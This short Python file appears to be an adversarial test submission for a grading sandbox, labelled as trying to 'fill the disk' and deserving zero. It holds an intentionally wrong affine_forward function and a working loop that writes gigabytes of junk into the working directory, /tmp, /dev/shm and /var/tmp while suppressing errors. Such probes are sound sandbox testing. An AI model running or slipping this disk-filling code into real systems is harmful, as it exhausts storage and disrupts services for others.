# TRIES: fill the disk | DESERVES: 0
def affine_forward(x, w, b):  # wrong on purpose
    return np.full((x.shape[0], w.shape[1]), 123.0)
block = b"x" * (1 << 20)
def fill(folder):
    try:
        for number in range(100):
            with open(f"{folder}/{number}.bin", "wb") as file:
                for _ in range(64):
                    file.write(block)
    except OSError as error:
        print(type(error).__name__)
for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
    fill(folder)
